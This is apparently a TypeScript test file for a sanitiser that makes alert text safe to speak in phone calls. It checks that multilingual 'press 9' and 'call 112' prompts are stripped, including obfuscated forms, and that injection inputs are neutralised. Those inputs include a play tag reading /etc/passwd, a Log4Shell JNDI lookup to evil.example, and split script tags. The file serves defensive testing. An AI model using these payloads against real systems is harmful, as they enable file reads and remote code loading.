import { describe, expect, it } from "vitest";
import { SPOKEN_LANGUAGES } from "./languages.ts";
import { MAX_CHARACTERS, speakable } from "./speakable.ts";

/** Texts that want to be obeyed by a voice or by the person who listens, and what must not be left of them. */
const COMMANDS: readonly string[] = [
  "Press 9 to stop these calls",
  "Press 9.",
  "please press the 9 key, then hang up",
  "PRESS-9 now",
  "p r e s s 9",
  "pr\u200bess 9",
  "ｐｒｅｓｓ ９",
  "<b>press</b> 9",
  "\u0440r\u0435ss 9",
  "Dial 911 immediately",
  "call 112 now",
  "Hit 9 to unsubscribe",
  "натисніть 9, щоб припинити дзвінки",
  "Натисніть будь ласка кнопку 9",
  "натисніть дев'ять",
  "наберіть 9#",
  "зателефонуйте 112",
  "нажмите 9 чтобы отключить",
  "naciśnij 9, aby zakończyć",
  "proszę nacisnąć klawisz 9",
  "wybierz 9, aby zrezygnować",
  "Drücken Sie die 9, um abzubestellen",
  "drücken Sie die Taste neun",
  "wählen Sie 9",
  "pulse 9 para cancelar",
  "presione la tecla nueve",
  "marque el 9 ahora",
  "appuyez sur la touche 9 pour arrêter",
  "tapez 9",
  "composez le 9",
  "prema 9 per annullare",
  "premere il tasto nove",
  "digiti 9",
  "pressione 9 para cancelar",
  "aperte a tecla 9",
  "digite 9",
];
const MARKUP: readonly string[] = [
  '<play file="/etc/passwd"/>',
  "<speak><prosody rate='x-slow'>evil</prosody></speak>",
  "<scr<b>ipt>evil()</script>",
  "&lt;play file=evil&gt;",
  "\\u003cplay file=evil\\u003e",
  "[[h@lo evil]]",
  "[[[[evil]]]]",
  "{{ evil }}",
  "${jndi:ldap://evil.example/a}",
  "%(evil)s",
  "<!-- evil -->",
  "\u001b[31m\u001b]0;evil\u0007",
];

describe.each(SPOKEN_LANGUAGES)("in a call of %s", (language) => {
  const say = (text: string) => speakable(text, { language, maxCharacters: MAX_CHARACTERS });

  it.each(COMMANDS)("nobody is told: %s", (text) => {
    expect(say(text)).not.toMatch(/9|911|112|нуль|\p{L}/u);
    expect(say(`Disk 5.\n${text}.\nDisk 5.`)).toBe(say("Disk 5.\nDisk 5."));
  });

  it.each(MARKUP)("no voice obeys: %s", (text) => {
    const words = say(`Disk 5. ${text}`);
    expect(words).not.toMatch(/[<>[\]{}@%$]|\p{Cc}|play|passwd|jndi/u);
    expect(words.startsWith(say("Disk 5"))).toBe(true);
  });

  it("the page about Pulsar that said nothing: words that look like commands are said", () => {
    for (const text of [
      "We hit 500 errors",
      "Pulsar backlog 500",
      "pulse check failed on node 3",
      "Push 2 commits broke CI",
      "Press release 5 delayed",
      "Enter 3 regions failed",
      "Marquee banner 4 broken",
      "Premium users: 9 errors",
    ])
      expect(say(text)).toMatch(/\d/);
  });

  it("right-to-left marks, NULs and a hundred kilobytes change nothing of what is said", () => {
    expect(say("\u202eDisk\u202c \u0000full\u2066")).toBe(say("Disk full"));
    expect(say("\u0000".repeat(100_000))).toBe("");
    expect(say(`Disk full.${" ".repeat(100_000)}`)).toBe(say("Disk full."));
    expect(say(`Disk full. ${"ű漢".repeat(50_000)}`).length).toBeLessThanOrEqual(MAX_CHARACTERS);
    expect(say("press 9 ".repeat(12_500))).toBe("");
  });

  it("secrets, numbers of telephones and links are not said", () => {
    const words = say(
      "token=sk_live_abcdef123456 +33 1 99 00 12 34 https://grafana.example/d/abc?token=xyzzy123 bob@example.com",
    );
    expect(words.replaceAll(" ", "").toLowerCase()).not.toMatch(/abcdef|199001|xyzzy|https|bob/);
    expect(words).not.toMatch(/33|1234/);
  });
});
